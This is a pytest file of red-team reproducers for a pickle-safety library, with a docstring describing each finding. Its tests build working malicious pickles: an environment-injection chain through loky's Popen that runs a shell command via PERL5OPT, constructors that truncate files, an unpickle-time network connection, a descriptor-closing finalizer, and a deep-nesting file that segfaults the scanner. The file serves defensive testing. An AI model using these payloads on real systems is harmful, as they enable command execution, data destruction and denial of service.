r"""Red team 87: reproducers (strict xfails) for the open findings, 22:51-00:05 UTC 2026-12-04,
on HEAD 4331be6 (pure snapshot /tmp/rt87p, SAFELOAD_PURE_PYTHON=1; "compiled" is /work/main's
.venv build as it was until 23:35). Every test below XFAILs on both builds at 4331be6,
failing at the assertion of the safe behaviour. Target: issue 14 (parity of the static pass
with the C unpickler / joblib / numpy, fail-closed, budgets, and its trust-advice point,
item 7).

While this round ran, the maintainer fixed most of it: b55e753 (rt87-05), b38d32c (rt87-04)
and 3a3082a (rt87-01/02/03/06) landed by 00:00. At 3a3082a (compiled) 11 of the 13 strict
xfails XPASS; the two still open are rt87-05's dict({numpy.log1p: 'k'}) and
dict(defaultdict(StandardScaler)) (scan unsafe, load loads). The rt87-04 fix was attacked
in the working tree before it landed and held: chains kept on the stack, 60,000 dict
levels, a chain in a BUILD state (FunctionTransformer.kw_args), in a tuple, closed into a
cycle, under a joblib object array, a 999-deep list in a 256 KB-stack thread: refused by
the depth limit, no crash, pure and compiled.


Ported by the maintainer at 00:15 (red team 87 ran 22:51-00:05, 74 minutes): rt87-01 to
rt87-04 and rt87-06 are fixed (3a3082a, b38d32c) and plain tests, as are rt87-05's list,
set and tuple of a dict (b55e753: both refuse). dict({numpy.log1p: 'k'}) is unproven to
scan, which issue 14 allows (a plain test says so); dict(defaultdict(StandardScaler)) is a
documented limit (scan is the stricter side), a strict xfail with a reason.
rt87-01 (TRUST -> HARM: command execution; issue 14 item 7, the trust advice and
        ``Policy.with_trusted``) joblib vendors loky, and loky's
        ``joblib.externals.loky.backend.popen_loky_posix.Popen`` is a plain class (its MRO is
        ``object``; CODE_MODULES holds ``multiprocessing`` and ``concurrent``, not
        ``joblib.externals.loky``): ``Popen(process_obj)`` starts loky's resource tracker and
        then fork-execs ``sys.executable`` with ``env=process_obj.env`` (os.environ updated by
        the file's dict). A 700-byte pickle ``Popen(Bunch(_name=, name=, env={...}))`` (Bunch
        is on the default allowlist) is refused by default with the advice "allow them
        explicitly: load(..., trusted=['joblib.externals.loky.backend.popen_loky_posix.Popen'])"
        (no caveat: the module is imported, checked, and found trustable); with_trusted accepts
        it, ``scan(trusted=[...])`` says SAFE, and ``load_unsigned(trusted=[...])`` returns the
        Popen after running the child with PYTHONWARNINGS=ignore::antigravity.x,
        BROWSER=perlthanks, PERL5OPT=-Mbase;system(...) (the known env-injection chain): the
        file's shell command ran (a marker file was created), pure and compiled. A second
        loky class shows that a load refused after building is not harmless either:
        ``joblib.externals.loky.backend.stdlib_py314_resource_tracker.ResourceTracker()`` with
        BUILD state {"_fd": N, "_pid": 1} (offered to trusted= as well, scan SAFE with it) is
        refused after building ("the check before use failed ... cannot pickle RLock"), and
        when the refused object is collected its __del__ calls os.close(N): any file
        descriptor of the loading process (a log, a database socket; the next open reuses
        the number) is closed by the file.
rt87-02 (TRUST -> HARM: file overwrite, processes; the same advice) more third-party classes
        whose constructor does what ONLY_CLASSES says a class does not: ``joblib.logger.
        PrintTime(logfile)`` rotates and copies the file, then opens it with "w" and writes
        two lines (any file the user can write is truncated; directories on the way are
        created); matplotlib's ``backends.backend_pdf.PdfFile(path)`` truncates the file and
        writes a PDF header into it (loaded, scan SAFE); ``scipy._lib._util.MapWrapper(3)``
        starts a multiprocessing pool (forkserver and resource tracker processes stay after
        the load). All are offered as ``trusted=[...]`` by the refusal, accepted by
        with_trusted, SAFE to ``scan(trusted=...)``; PrintTime and PdfFile load, MapWrapper is
        refused only after building
        ("holds a method object": scan SAFE, load refused, after the processes started).
        Found by an AST sweep of the __init__/__new__/__setstate__ of every class in joblib,
        scipy, sklearn, numpy, pandas and threadpoolctl for file, process, socket and import
        calls (46 classes), then asking with_trusted which it accepts (8), and matplotlib's
        backends by hand (pandas' ExcelWriter/HDFStore are accepted too, inert here only because
        openpyxl and tables are not installed). A second sweep of every class of every
        imported non-stdlib module whose trust_problem is None adds dateutil's tz.tzfile and
        tz.tzical (they open and read a path the file names).
rt87-03 (TRUST -> HARM: network at BUILD; the same advice) scikit-learn 1.9's
        ``sklearn.callback._scoring_monitor.ScoringMonitor.__setstate__`` calls
        ``can_reuse_listener(self._listener_handle)``, which opens a
        ``multiprocessing.connection.Client`` to ``_listener_handle.address`` with its
        ``authkey`` (and, when that fails, opens a listener socket and starts two threads). A
        pickle ``_reconstructor(ScoringMonitor, object, None)`` + BUILD with
        ``_listener_handle=Bunch(address=("127.0.0.1", port), authkey=...)``: refused by
        default with the advice to trust ScoringMonitor (a class an honest model fitted with
        scoring callbacks holds, so the advice is one a user follows); trusted, ``scan`` says
        SAFE and ``load_unsigned`` connects to the address the file names before anything is
        checked (here a local listener saw the connection; the load then failed on its
        EOF). No constructor call is needed: BUILD alone, the path ONLY_CLASSES calls safe.
rt87-04 (HARM: crash, before any signature; issue 14's budgets, "deep nesting", and the depth
        limit Limits.max_depth = 1000) WalkBase._nest records a container's depth when children
        are put into it (1 + their depth then), and nothing updates its ancestors when a child
        grows later. Built top-down, each list appended to its parent while still empty and
        then fetched from the memo to receive the next (``] MEMOIZE APPEND POP LONG_BINGET``,
        9 bytes a level), every recorded depth is 1, and the C unpickler builds lists as deep
        as the file likes. The end-of-stream count (costs._unfold, recursive) then follows the
        real nesting: compiled with mypyc it recurses in C without Python's recursion limit,
        and 35,000 levels (315 KB; 40,000 dict levels, 440 KB, alike) overflow the C stack:
        ``safeload.scan``, ``safeload.load_unsigned`` and the CLI ``safeload scan`` die with
        SIGSEGV (exit 139); as ``.joblib.xz``, 120,000 levels take 32 KB. For a file of 1 MiB
        or more ``load`` runs the pass beside the signature check, so 120,000 levels
        (1,080,011 bytes), put in place of a signed model of the same size with its old
        sidecar, kill ``safeload.load(path, keys=pub)`` before the signature is refused: no
        key needed. The pure build refuses instead, as "malformed stream: RecursionError"
        (not the depth limit) from some 1,000 levels; 1,000-30,000 levels are refused by the
        compiled build's unfolded-size rule. Pure and compiled also disagree within the
        limit: a plain list nested 990-1000 deep bottom-up loads on the compiled build and is
        refused by the pure one (RecursionError in the same count). Within the limit the
        compiled count still takes some 300 bytes of C stack a level: in a thread started
        after ``threading.stack_size(256 * 1024)``, ``scan`` of a list nested 999 deep
        bottom-up (3 KB) segfaults (512 KB holds; the pure build is fine at 128 KB). The
        limit itself does not hold: under Limits(max_depth=50), 200 and 500 top-down levels
        pass the static pass and are built, refused only after building (a post-build
        sharing check), where 60 levels built bottom-up are refused by the limit before
        anything is built. Found asking which
        of the pass's bookkeeping is incremental and can go stale when a container changes
        after it is nested (the rest, BUILD and call arguments, is frozen once handed over:
        tried, held).
rt87-05 (PARITY; scan = load, fuzz/parity_grammar.py) the repository's own grammar fuzz target
        reports disagreements at its default seed: 43 of 65,274 streams in 40 s at seed 0, 72
        of 135,166 in 150 s at seed 8787, all one group: scan unsafe, load loads. A call that
        iterates a dict built in the stream, ``builtins.list({'k': builtins.set})``,
        ``builtins.set({'k': decimal.Decimal})``, ``builtins.list({'k': builtins.range})``:
        scan says "keeps builtins.set as a value: the unpickler hands out a narrowed form of
        it" / "only functions on the callable allowlist and scalar types may be stored in a
        model", but the value never reaches the model (list() and set() take the keys):
        load_unsigned returns ['k'] / {'k'}, pure and compiled. No harm (scan is the stricter
        side), but ``make fuzz`` exits 1 on HEAD (2c419b9 had fixed this target's last false
        alarms, dict(mapping) and defaultdict(function)). Swept: list / set / tuple / frozenset
        / dict over a one-item dict holding set, Decimal, range, list or numpy.log1p as its
        value or its key: 20 of the 50 forms disagree at HEAD, among them the ufunc kept as
        a key (``list({numpy.log1p: 'k'})`` returns [log1p], which a plain {log1p: 'k'} model
        may hold: SAFE). On the 23:35 working tree one is left: ``dict({numpy.log1p: 'k'})``,
        scan "unproven: a dict made from values the pass cannot see, which a load makes",
        load returns {log1p: 'k'}. A wider sweep (list, set, tuple, frozenset, dict and
        OrderedDict over a dict by value or key, a list, a tuple, a list of pairs, a set or
        a frozenset of nine values: 378 forms): 26 disagree at HEAD, 2 on the working tree
        (dict({numpy.log1p: 'k'}), dict({numpy.float64: 'k'})), all scan unsafe / load loads;
        and the working tree's own grammar fuzz (seed 0, 90 s, 125,472 streams) still finds
        ``dict(defaultdict(StandardScaler))``: scan "keeps ...StandardScaler as a value",
        load returns {} (at HEAD too).
rt87-06 (TRUST; the advice for a name whose module is not imported) a file naming
        ``antigravity.geohash`` (a standard-library module nothing imports) is refused with
        "allow them explicitly: load(..., trusted=['antigravity.geohash'])" and the caveat that
        "trusting a name imports it". trust_problem refuses every standard-library class and
        every function, so no such name can ever be trusted, yet following the advice
        (``scan(data, trusted=[...])``, ``load``, CLI ``--trust``) imports the module the file
        chose before refusing: antigravity's import calls webbrowser.open('https://xkcd.com/
        353/') (a browser process where one is installed), pure and compiled. The advice should
        say the name can never be trusted (sys.stdlib_module_names is known without importing),
        and with_trusted should refuse a standard-library name before importing it.

Held (tried, no finding):
- Text arguments against CPython's C unpickler: every INT, LONG, FLOAT text of 1 to 4
  characters over a 23-symbol alphabet (digits 0/1/7/8/9, x X + - _ . e L a f o b i n, space,
  tab, NUL, an Arabic-Indic digit): 1,170,240 forms fed to ``pickle.loads`` and to
  ``_opcodes.Cursor``; no form the pass accepts decodes differently (bools for two-character
  0/1 with signs, octal, hex, L suffixes, inf/nan, overflow all agree; the rest is refused).
- Pure against compiled and scan against load: 15,000 mutants (byte flips, interesting
  opcode insertions, deletions, splices) of 65 honest files (13 models and arrays, protocols
  0/2/4/5 and joblib: trees, forest, HGB, SVC, KNN, KMeans, pipeline, OneHotEncoder,
  structured, object and big-endian arrays): pure and compiled gave identical verdicts and
  first messages on all 15,000, and no mutant was SAFE to scan but refused by load, or the
  reverse.
- Memo DAGs (tuple DAG of depth 30 plain, as a set item, a dict key, a frozenset): refused
  at once; LONG_BINPUT 2**32 - 16 and PUT 99999999999: refused ("memo index far beyond").
- joblib: a wrapper fetched again from the memo and BUILT a second time (joblib reads a
  second array): refused ("referred to a second time"); a wrapper whose names are 23 bytes
  apart (past the sniff's 16-byte gap) in a file named .pkl, with a BINBYTES whose tail
  joblib runs (posix.system) after reading 5 bytes as the array: sniffed or analysed as
  joblib and refused (joblib.load runs the command); _compat_pickle's NAME_MAPPING and
  IMPORT_MAPPING meet no allowlisted name (joblib's Python unpickler maps py2 names).
- Folder signatures: an old artifact with its own sidecar dropped into a sub-folder of a
  signed folder: load, verify, a relative path and signature= all refuse (manifest).
- Pre-signature work: a 1.15 MB same-size replacement of a signed file whose pickle is
  40,000 colliding int keys (rt24-16's quadratic dict): load refused the signature in 0.1 s.
- Policy.default().entries is a mappingproxy (no trust added by mutation).
- 30 opcode edge cases against the C unpickler (PROTO 6, STOP on an empty stack or an open
  MARK, POP on a MARK, POP_MARK / DUP / MEMOIZE / BINPUT without an item, SETITEM(S) on a
  list, ADDITEMS on a list, APPENDS on a dict, BUILD on a list / dict / set, FRAME 0,
  ``I01``, empty TUPLE, odd DICT, unset GET, two STOPs, EXT1, PERSID, BINPERSID, empty OBJ,
  NEWOBJ_EX): scan = load everywhere, and nothing the C unpickler rejects is loaded.
- Two protocol-5 arrays over one memoised bytearray (numpy shares it): refused.
- Issue item 11's hiding places for a crafted KDTree (idx_array all 10**6): plain, in a
  tuple, a set, a frozenset, as a dict key: scan and load both refuse it.
- Stale state after handing over: a dtype's fields dict changed by SETITEM / SETITEMS after
  the dtype's BUILD (numpy keeps the dict: plain pickle reads a float64 at offset 4 of an
  8-byte item), an APPEND to a forest's estimators_ after the forest's BUILD: refused ("changes
  a dict/list after it was handed to a call or BUILD"). A MaskedArray object-dtype state of
  shape (200000,) with an empty list (plain pickle segfaults): refused.
- 51 honest models of scikit-learn 1.9 not named in the corpus lists (threshold tuners,
  FrozenEstimator, HDBSCAN, TargetEncoder, Isotonic, SGDOneClassSVM, LOF, RFECV, chains,
  stacking, categorical HGB, LDA, MiniBatchNMF, CCA, calibration, self-training, OPTICS,
  Birch, MinCovDet, GraphicalLassoCV, halving search, ...) as pickle and joblib: SAFE and
  loaded. (An estimator fitted with a ScoringMonitor callback is refused, and the advice's
  second name, ListenerHandle, is then refused as "called with arguments": see rt87-03.)
- A FLOAT of 4,000,000 digits: scan 0.01 s (linear).
- An honest forest as joblib with every compressor (zlib, gzip, bz2, xz, lzma, lz4) at
  levels 1 and 9: SAFE and loaded.
- joblib's Python unpickler against the pass on 24,000 mutants of the corpus (INT +1 / -0 /
  010 forms, FLOAT, LONG, GET/PUT text inserted): every one safeload loaded (2,237), joblib
  built the same values (types, array bytes, estimator state).
- fuzz/parity_states.py (the repository's state fuzzer), 900 s at seed 8787: 125,607
  mutations of 194 kinds, 0 disagreements.
- fuzz/fuzz_diff.py (the pass's decoded values and memo against _pickle, atheris), 300 s:
  2,707,517 runs, no disagreement (coverage 11 edges: the compiled walk is not
  instrumented). fuzz/parity_grammar.py at seeds 0, 1, 2 and 8787: some 700,000 streams,
  rt87-05's one group and nothing else (no stream SAFE to scan and refused by the load).
- Known, not refiled: rt24-16 (hash-colliding int keys: 40,000 keys, 559 KB, scan 13 s,
  load 13 s; frozensets alike).
"""

from __future__ import annotations

import copyreg
import os
import pickle
import socket
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest

import safeload
from redteam import (
    assert_scan_predicts_load,
    refusal_advice,
    scan_trusting,
    write,
)
from safeload import SafeloadError, UsageError
from safeload.policy import Policy

# --- rt87-01: loky's Popen, offered to trusted=, runs a command --------------------------------

LOKY_POPEN = "joblib.externals.loky.backend.popen_loky_posix.Popen"


class _Call:
    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> Any:
        return (self.func, self.args)


def _loky_file(tmp_path: Path, marker: Path) -> Path:
    from joblib.externals.loky.backend.popen_loky_posix import Popen
    from sklearn.utils._bunch import Bunch

    env = {
        "PYTHONWARNINGS": "ignore::antigravity.x",  # the child imports antigravity at start
        "BROWSER": "perlthanks",  # which webbrowser runs
        "PERL5OPT": f'-Mbase;system("touch","{marker}");exit;',  # and perl runs this
    }
    data = pickle.dumps(_Call(Popen, Bunch(_name="m", name="m", env=env)), protocol=4)
    return write(tmp_path, data)


def test_rt87_01_loky_popen_is_not_trustable(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    path = _loky_file(tmp_path, marker)
    # a fresh interpreter (-c: no main module for loky's child to import again) follows the
    # advice; the child loky starts runs the file's command
    code = (
        "import sys, time, safeload\n"
        "try:\n"
        f"    safeload.load_unsigned(sys.argv[1], trusted=[{LOKY_POPEN!r}])\n"
        "    print('loaded')\n"
        "except Exception as exc:\n"
        "    print('refused', type(exc).__name__)\n"
        "time.sleep(2)\n"
    )
    subprocess.run(
        [sys.executable, "-c", code, str(path)], cwd=tmp_path, timeout=60, capture_output=True
    )
    assert not marker.exists(), "the file's command ran"
    advice = refusal_advice(path)
    assert "trusted=[" not in advice and "--trust" not in advice, advice
    with pytest.raises(UsageError):
        Policy.default().with_trusted([LOKY_POPEN])


def test_rt87_01_resource_tracker_closes_a_descriptor(tmp_path: Path) -> None:
    import gc

    from joblib.externals.loky.backend.stdlib_py314_resource_tracker import ResourceTracker

    name = "joblib.externals.loky.backend.stdlib_py314_resource_tracker.ResourceTracker"
    with open(tmp_path / "victim.log", "w") as victim:
        fd = victim.fileno()

        class Made:
            def __reduce__(self) -> Any:
                return (ResourceTracker, (), {"_fd": fd, "_pid": 1})

        path = write(tmp_path, pickle.dumps(Made(), protocol=4))
        advice = refusal_advice(path)
        try:
            safeload.load_unsigned(path, trusted=[name])
        except (SafeloadError, UsageError):
            pass
        gc.collect()
        try:
            os.fstat(fd)
            closed = False
        except OSError:
            closed = True
            spare = os.open(os.devnull, os.O_WRONLY)
            os.dup2(spare, fd)  # something for the with-block to close
            os.close(spare)
    assert not closed, "the refused object's finalizer closed the descriptor"
    assert "trusted=[" not in advice, advice


# --- rt87-02: PrintTime overwrites a file, MapWrapper starts a pool ----------------------------


@pytest.mark.parametrize(
    "name", ["joblib.logger.PrintTime", "matplotlib.backends.backend_pdf.PdfFile"]
)
def test_rt87_02_trusted_constructor_overwrites_a_file(tmp_path: Path, name: str) -> None:
    import importlib

    module, _, qualname = name.rpartition(".")
    cls = getattr(pytest.importorskip(module), qualname)
    victim = tmp_path / "precious.txt"
    victim.write_text("precious data\n")
    path = write(tmp_path, pickle.dumps(_Call(cls, str(victim)), protocol=4))
    advice = refusal_advice(path)
    try:
        safeload.load_unsigned(path, trusted=[name])
    except (SafeloadError, UsageError):
        pass
    assert importlib.import_module(module)
    assert victim.read_bytes() == b"precious data\n", "the load truncated and rewrote it"
    assert "trusted=[" not in advice, advice


def test_rt87_02_map_wrapper_is_not_trustable(tmp_path: Path) -> None:
    from scipy._lib._util import MapWrapper

    name = "scipy._lib._util.MapWrapper"
    data = b"\x80\x02cscipy._lib._util\nMapWrapper\nK\x03\x85R."  # MapWrapper(3): a Pool(3)
    assert MapWrapper.__module__ == "scipy._lib._util"
    path = write(tmp_path, data)
    advice = refusal_advice(path)
    # trusted, scan calls it SAFE, while the load starts the pool and then refuses
    assert not scan_trusting(data, [name])
    assert "trusted=[" not in advice, advice
    with pytest.raises(UsageError):
        Policy.default().with_trusted([name])


# --- rt87-03: ScoringMonitor's __setstate__ connects where the file says -----------------------


def test_rt87_03_scoring_monitor_build_connects_out(tmp_path: Path) -> None:
    from sklearn.callback._scoring_monitor import ScoringMonitor
    from sklearn.utils._bunch import Bunch

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(5)
    port = server.getsockname()[1]
    seen: list[Any] = []

    def accept() -> None:
        try:
            conn, address = server.accept()
            seen.append(address)
            conn.close()
        except OSError:
            pass

    listener = threading.Thread(target=accept, daemon=True)
    listener.start()
    state = {
        "_scoring": ["accuracy"],
        "_log": [],
        "_estimator_scorers": {},
        "_listener_handle": Bunch(address=("127.0.0.1", port), authkey=b"k" * 32),
    }

    class Made:
        def __reduce__(self) -> Any:
            return (copyreg._reconstructor, (ScoringMonitor, object, None), state)

    data = pickle.dumps(Made(), protocol=4)
    path = write(tmp_path, data)
    name = "sklearn.callback._scoring_monitor.ScoringMonitor"
    advice = refusal_advice(path)
    scanned = scan_trusting(data, [name])
    try:
        safeload.load_unsigned(path, trusted=[name])
    except (SafeloadError, UsageError):
        pass
    listener.join(6)
    server.close()
    assert not seen, f"the load connected to {seen}"
    assert not scanned
    assert "trusted=[" not in advice, advice


# --- rt87-04: nesting built top-down escapes max_depth; the compiled count overflows the stack --


def _top_down(levels: int) -> bytes:
    """``L0 = []``; for each k: a new empty list, memoised as k, appended to L(k-1), then L(k)
    fetched to receive the next one. Each list is nested while still empty, so every depth the
    walk records is 1; the C unpickler builds lists ``levels`` deep (9 bytes a level)."""
    import struct

    out = bytearray(b"\x80\x04]\x94")
    for k in range(1, levels + 1):
        out += b"]\x94a0j" + struct.pack("<I", k)
    return bytes(out + b"0j" + struct.pack("<I", 0) + b".")


_DEPTH_CHILD = """
import sys, safeload
path, signed, pub = sys.argv[1], sys.argv[2], sys.argv[3]
data = open(path, 'rb').read()
report = safeload.scan(data)
print('scan', report.safe, [f.message[:120] for f in report.findings][:1], flush=True)
try:
    safeload.load_unsigned(path)
    print('load loaded', flush=True)
except safeload.SafeloadError as exc:
    print('load refused', str(exc)[:160], flush=True)
try:
    safeload.load(signed, keys=safeload.load_public_key(pub))
    print('signed loaded', flush=True)
except safeload.SafeloadError as exc:
    print('signed refused', type(exc).__name__, flush=True)
"""


def test_rt87_04_top_down_nesting_crashes_the_pass(tmp_path: Path) -> None:
    import numpy as np

    attack = _top_down(120_000)  # 1,080,011 bytes: over 1 MiB, so load runs the pass
    path = write(tmp_path, attack, "attack.pkl")  # beside the signature check
    # a signed model of the same size, then swapped for the attack (the old sidecar kept)
    legit = pickle.dumps(np.zeros(1), 2)
    pad = len(attack) - (len(legit) - 2) - 8
    legit = b"\x80\x02B" + pad.to_bytes(4, "little") + b"\x00" * pad + b"0" + legit[2:]
    signed = write(tmp_path, legit, "model.pkl")
    key = safeload.SigningKey.generate()
    safeload.sign(signed, key)
    (tmp_path / "pub.pem").write_bytes(key.public_key.to_pem())
    signed.write_bytes(attack)
    child = subprocess.run(
        [sys.executable, "-c", _DEPTH_CHILD, str(path), str(signed), str(tmp_path / "pub.pem")],
        cwd=tmp_path,
        timeout=120,
        capture_output=True,
        text=True,
    )
    assert child.returncode == 0, (child.returncode, child.stdout, child.stderr[-400:])
    # refused by the depth limit (max_depth 1000) it escapes, not by a RecursionError
    assert "scan False" in child.stdout and "nested deeper than" in child.stdout, child.stdout
    assert "load refused" in child.stdout, child.stdout
    assert "signed refused" in child.stdout, child.stdout


# --- rt87-05: a class as the value of a dict a call iterates: scan unsafe, load loads ----------


@pytest.mark.parametrize(
    "data",
    [
        b"\x80\x05cbuiltins\nlist\n}X\x01\x00\x00\x00kcbuiltins\nset\ns\x85R.",
        b"\x80\x05cbuiltins\nset\n}X\x01\x00\x00\x00kcdecimal\nDecimal\ns\x85R.",
        b"\x80\x05cbuiltins\nlist\n}X\x01\x00\x00\x00kcbuiltins\nrange\ns\x85R.",
    ],
)
def test_rt87_05_dict_value_dropped_by_the_call(tmp_path: Path, data: bytes) -> None:
    # list(d) / set(d) keep d's keys only: load_unsigned returned ['k'] / {'k'} while scan
    # judged the dropped value. No pickler builds a container from a dict: both refuse now
    assert_scan_predicts_load(data, tmp_path, refused=True)


def test_rt87_05_dict_of_a_function_key_is_unproven_to_scan(tmp_path: Path) -> None:
    # dict({numpy.log1p: 'k'}): a dict made by a call from a dict keyed by a function; scan
    # calls it unproven and the load judges what it built (issue 14 allows it: the grammar
    # fuzz target counts these apart)
    data = b"\x80\x05cbuiltins\ndict\n}cnumpy\nlog1p\nX\x01\x00\x00\x00ks\x85R."
    report = safeload.scan(data)
    assert not report.safe
    assert all(f.message.startswith("unproven:") for f in report.findings), report.findings
    assert safeload.load_unsigned(write(tmp_path, data)) == pickle.loads(data)


def test_rt87_05_defaultdict_factory_dropped_by_a_copy(tmp_path: Path) -> None:
    # dict(defaultdict(StandardScaler)) is {}: scan judges the factory, and since rt115-01
    # the load refuses it too (a dict made by a call on a value the pass cannot read: pickle
    # never writes one), so both refuse it (a documented limit until f8539c4)
    data = (
        b"\x80\x05cbuiltins\ndict\nccollections\ndefaultdict\n"
        b"csklearn.preprocessing._data\nStandardScaler\n\x85R\x85R."
    )
    assert_scan_predicts_load(data, tmp_path)


# --- rt87-06: the advice offers a standard-library name; following it imports the module ------

_ANTIGRAVITY = """
import sys, webbrowser, safeload
opened = []
webbrowser.open = lambda url, *a, **k: opened.append(url) or True  # record, do not open
data = b"\\x80\\x02cantigravity\\ngeohash\\n."
open(sys.argv[1], "wb").write(data)
try:
    safeload.load_unsigned(sys.argv[1])
except safeload.SafeloadError as exc:
    print("offers", "trusted=[" in str(exc))
try:
    safeload.scan(data, trusted=["antigravity.geohash"])
except safeload.UsageError:
    pass
print("imported", "antigravity" in sys.modules, "opened", opened)
"""


def test_rt87_06_stdlib_name_never_offered_nor_imported(tmp_path: Path) -> None:
    child = subprocess.run(
        [sys.executable, "-c", _ANTIGRAVITY, str(tmp_path / "m.pkl")],
        cwd=tmp_path,
        timeout=60,
        capture_output=True,
        text=True,
    )
    assert "offers" in child.stdout, child.stderr[-400:]
    assert "imported False" in child.stdout, child.stdout
    assert "offers False" in child.stdout, child.stdout


# --- held: cheap checks of attacks that did not work -------------------------------------------


def test_rt87_held_int_text_forms_agree_with_c() -> None:
    """A sample of the 1.17 M text forms: what the pass accepts, it decodes as _pickle does."""
    from safeload._opcodes import Cursor

    forms = [b"010", b"+1", b"-0", b"+0", b"01", b"00", b"0x1f", b"-0x10", b"07", b"1L", b"0o7"]
    for op in (b"I", b"L"):
        for text in forms:
            data = op + text + b"\n."
            try:
                mine = Cursor(data).next()[1]
            except ValueError:
                continue
            real = pickle.loads(data)
            assert type(mine) is type(real) and mine == real, (op, text, mine, real)


def test_rt87_held_wrapper_built_twice_refused(tmp_path: Path) -> None:
    import io

    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump([np.arange(4, dtype=np.uint8)], buf)
    head = buf.getvalue()[:-2]  # ... the array region; the list below it
    data = head + b"a" + b"h\x04}b" + b"\x00\x05\x06\x07\x08" + b"a."  # BINGET the wrapper, BUILD
    path = write(tmp_path, data, "m.joblib")
    assert not safeload.scan(path).safe
    with pytest.raises(SafeloadError, match="second time"):
        safeload.load_unsigned(path)


def test_rt87_held_far_memo_index_refused() -> None:
    for data in (b"\x80\x02K\x01r\xf0\xff\xff\xff.", b"K\x01p99999999999\n."):
        report = safeload.scan(data)
        assert not report.safe
        assert any("memo index" in f.message for f in report.findings)


def test_rt87_held_no_compat_mapping_meets_the_allowlist() -> None:
    """joblib's Python unpickler maps Python 2 names (fix_imports); safeload's never does:
    harmless as long as no mapped-from name is allowlisted."""
    import _compat_pickle

    entries = Policy.default().entries
    assert not [
        k
        for k in entries
        if k in _compat_pickle.NAME_MAPPING or k[0] in _compat_pickle.IMPORT_MAPPING
    ]


def test_rt87_held_env_unchanged() -> None:
    assert os.environ.get("PERL5OPT") is None
